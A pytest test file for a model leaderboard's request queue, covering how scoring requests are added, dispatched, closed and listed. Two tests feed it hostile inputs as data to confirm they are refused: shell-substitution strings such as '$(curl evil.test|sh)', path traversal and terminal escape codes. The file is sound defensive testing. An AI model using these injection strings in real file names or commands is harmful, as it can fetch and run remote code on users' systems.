"""Requests to score a model, from the request to its results."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from biasboard.ground.command_line import _raises
from biasboard.ground.errors import ConfigError, DataError
from leaderboard.commands.queue import add_command, done_command, list_command, next_command


@pytest.fixture
def queue(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "out/datasets/made").mkdir(parents=True)
    (tmp_path / "out/datasets/made/dataset.json").write_text("{}")
    # Called from Python, a command raises its errors.
    token = _raises.set(True)
    yield tmp_path / "leaderboard" / "queue"
    _raises.reset(token)


def told(queue: Path) -> list[dict[str, Any]]:
    return [json.loads(path.read_text()) for path in sorted(queue.glob("*.json"))]


def test_a_request_becomes_a_command_and_then_results(queue: Path, capsys: pytest.CaptureFixture[str]) -> None:
    add_command("acme/small", "someone", revision="v1", memory_gb=20.0)
    add_command("acme/large", "someone", memory_gb=200.0)
    name = capsys.readouterr().out.split()[1].rstrip(":")
    next_command(memory_gb=20)
    command, done = capsys.readouterr().out.splitlines()
    assert command == (
        "biasboard run --dataset out/datasets/made --backend transformers --model acme/small --revision v1"
    )
    assert done == f"biasboard queue done {name} --place PLACE"
    with pytest.raises(DataError, match="submit the run first"):
        done_command(name, place=["here"])
    (queue.parent / "results" / "here").mkdir(parents=True)
    (queue.parent / "results" / "here" / "result.json").write_text("{}")
    done_command(name, place=["here"])
    (large, small) = sorted(told(queue), key=lambda one: one["model"])
    assert (small["state"], small["places"], large["state"]) == ("done", ["here"], "open")
    list_command()
    assert [line.split()[2] for line in capsys.readouterr().out.splitlines()[1:]] == ["acme/large"]
    list_command(every=True)
    assert len(capsys.readouterr().out.splitlines()) == 2
    with pytest.raises(DataError, match="no open request fits"):
        next_command(memory_gb=24)


def test_a_request_is_made_and_closed_once(queue: Path, capsys: pytest.CaptureFixture[str]) -> None:
    add_command("acme/small", "someone")
    name = capsys.readouterr().out.split()[1].rstrip(":")
    with pytest.raises(ConfigError, match="were requested before"):
        add_command("acme/small", "another")
    with pytest.raises(ConfigError, match="closed by --place"):
        done_command(name)
    done_command(name, declined="its licence forbids it")
    assert told(queue)[0]["reason"] == "its licence forbids it"
    with pytest.raises(ConfigError, match="has no open request"):
        done_command(name, declined="again")


@pytest.mark.parametrize("model", ["acme/$(touch x)", "a b", "../../etc", "x" * 201])
def test_names_that_no_model_has_are_refused(queue: Path, model: str) -> None:
    with pytest.raises(DataError, match="model"):
        add_command(model, "someone")
    assert not queue.exists()


@pytest.mark.parametrize("name", ["$(curl evil.test|sh)", "a;b", "\x1b[2J", "00000000"])
def test_a_file_that_a_stranger_named_brings_no_command_into_a_terminal(queue: Path, name: str) -> None:
    add_command("acme/small", "someone")
    (path,) = queue.glob("*.json")
    path.rename(queue / f"{name}.json")
    for command in (list_command, next_command):
        with pytest.raises(DataError, match=f"is not named after its request; rename it {path.stem}.json") as caught:
            command()
        assert str(caught.value).isprintable()
